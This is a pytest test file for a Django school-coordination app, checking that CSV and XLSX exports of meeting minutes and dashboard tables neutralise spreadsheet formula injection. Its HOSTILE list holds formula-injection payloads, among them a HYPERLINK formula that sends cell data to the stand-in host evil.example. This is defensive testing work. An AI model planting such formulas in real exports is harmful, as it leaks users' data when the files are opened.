"""Every CSV and XLSX the app writes neutralises cells a spreadsheet would run (docs/quality.md S9).

Cells that begin with `=`, `+`, `-`, `@`, tab or carriage return, or with the full-width forms of the
first four (U+FF1D, U+FF0B, U+FF0D, U+FF20, which spreadsheets in some locales read as the same), get a
leading apostrophe. The exports are the meeting minutes (CSV), every dashboard table (CSV and XLSX,
school and district) and the district export's CSV files; a new module that writes CSV or a workbook
fails `test_the_exports_tested_here_are_all_the_app_has`.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from meetings import services as meeting_services
from tests.conftest import Side
from tests.data_reviews.score_factories import TierSnapshotFactory
from tests.meetings.factories import make_meeting

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\r=1",
    '\uff1dHYPERLINK("http://evil.example/")',
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(A1:A9)",
]
ROOT = Path(__file__).resolve().parent.parent
# The district export's CSV files are checked in tests/coordinators/test_district_lifecycle.py.
# The one writer every download uses, the district export's streamed files included.
EXPORT_MODULES = {"mtss/spreadsheets.py"}
# Files the app writes that no person downloads: the sample OneRoster zips the tests and the demo
# import, which must hold exactly what a student information system would send.
NOT_DOWNLOADS = {"coordinators/roster/samples.py"}


def _unsafe(cells: list[object]) -> list[object]:
    return [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS)]


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(content: bytes) -> list[object]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def test_the_exports_tested_here_are_all_the_app_has():
    writers = set()
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "var/")) or "/migrations/" in relative:
            continue
        if relative in NOT_DOWNLOADS:
            continue
        source = path.read_text()
        if "csv.writer(" in source or "csv.DictWriter(" in source or "openpyxl.Workbook(" in source:
            writers.add(relative)
    assert writers == EXPORT_MODULES


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE)
def test_meeting_minutes_csv_neutralises_every_hostile_cell(hostile: str, side_a: Side, coordinator_a):
    side_a.member.full_name = hostile
    side_a.member.save()
    meeting = make_meeting(side_a.district, side_a.coordinator, title=hostile)
    meeting_services.meeting_update(
        meeting=meeting, member=side_a.membership(side_a.coordinator), location=hostile
    )
    item = meeting_services.agenda_item_propose(
        meeting=meeting, title=hostile, member=side_a.membership(side_a.coordinator)
    )
    meeting_services.minute_entry_add(
        item=item, kind="discussion", text=hostile, member=side_a.membership(side_a.coordinator)
    )
    meeting_services.minute_entry_add(
        item=item,
        kind="task",
        text=hostile,
        member=side_a.membership(side_a.coordinator),
        owner=side_a.member,
        due_date=None,
    )
    response = coordinator_a.get(reverse("meeting_export", args=[meeting.pk]))
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    assert cells.count("'" + hostile) >= 5, cells
    assert not _unsafe(cells)


@pytest.fixture
def hostile_school(side_a: Side):
    school = side_a.school
    school.name = HOSTILE[0]
    school.save()
    for window in ("fall", "winter"):
        TierSnapshotFactory(school=school, window=window, tier1=60, tier2=25, tier3=15)
        TierSnapshotFactory(
            school=school, window=window, grade="", student_group=HOSTILE[3], tier1=5, tier2=3, tier3=2
        )
    return school


def _tables(client, url: str) -> list[str]:
    response = client.get(url)
    assert response.status_code == 200
    return [table.key for table in response.context["tables"]]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("place", ["school", "district"])
def test_every_dashboard_table_export_neutralises_hostile_names(place, kind, hostile_school, coordinator_a):
    if place == "school":
        url = reverse("score_school_dashboard", args=[hostile_school.pk])
    else:
        url = reverse("score_district_dashboard")
    keys = _tables(coordinator_a, url + "?subject=reading")
    assert keys
    seen_hostile = 0
    for key in keys:
        response = coordinator_a.get(f"{url}?subject=reading&table={key}&export={kind}")
        assert response.status_code == 200
        cells = _csv_cells(response.content) if kind == "csv" else _xlsx_cells(response.content)
        assert not _unsafe(cells), f"{key}: {_unsafe(cells)}"
        seen_hostile += sum(1 for c in cells if isinstance(c, str) and c.startswith("'") and c[1:] in HOSTILE)
        assert '"' not in response["Content-Disposition"].split("filename=")[1].strip('"')
    assert seen_hostile, "the hostile school name or student group should appear in some table"


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE)
def test_joined_attendance_and_guest_names_are_neutralised(hostile: str, side_a: Side, coordinator_a):
    """The attendance cell joins names and statuses: the joined cell is what gets checked."""
    meeting = make_meeting(side_a.district, side_a.coordinator, kind="executive")
    meeting.attendance.all().delete()
    meeting_services.attendance_record(
        meeting=meeting, statuses={}, guests=[hostile], member=side_a.membership(side_a.coordinator)
    )
    response = coordinator_a.get(reverse("meeting_export", args=[meeting.pk]))
    cells = _csv_cells(response.content)
    attendance = cells[cells.index("Attendance") + 1]
    assert attendance.endswith("(Present)")
    assert attendance.startswith("'") is hostile.strip().startswith(DANGEROUS), attendance
    assert not _unsafe(cells)
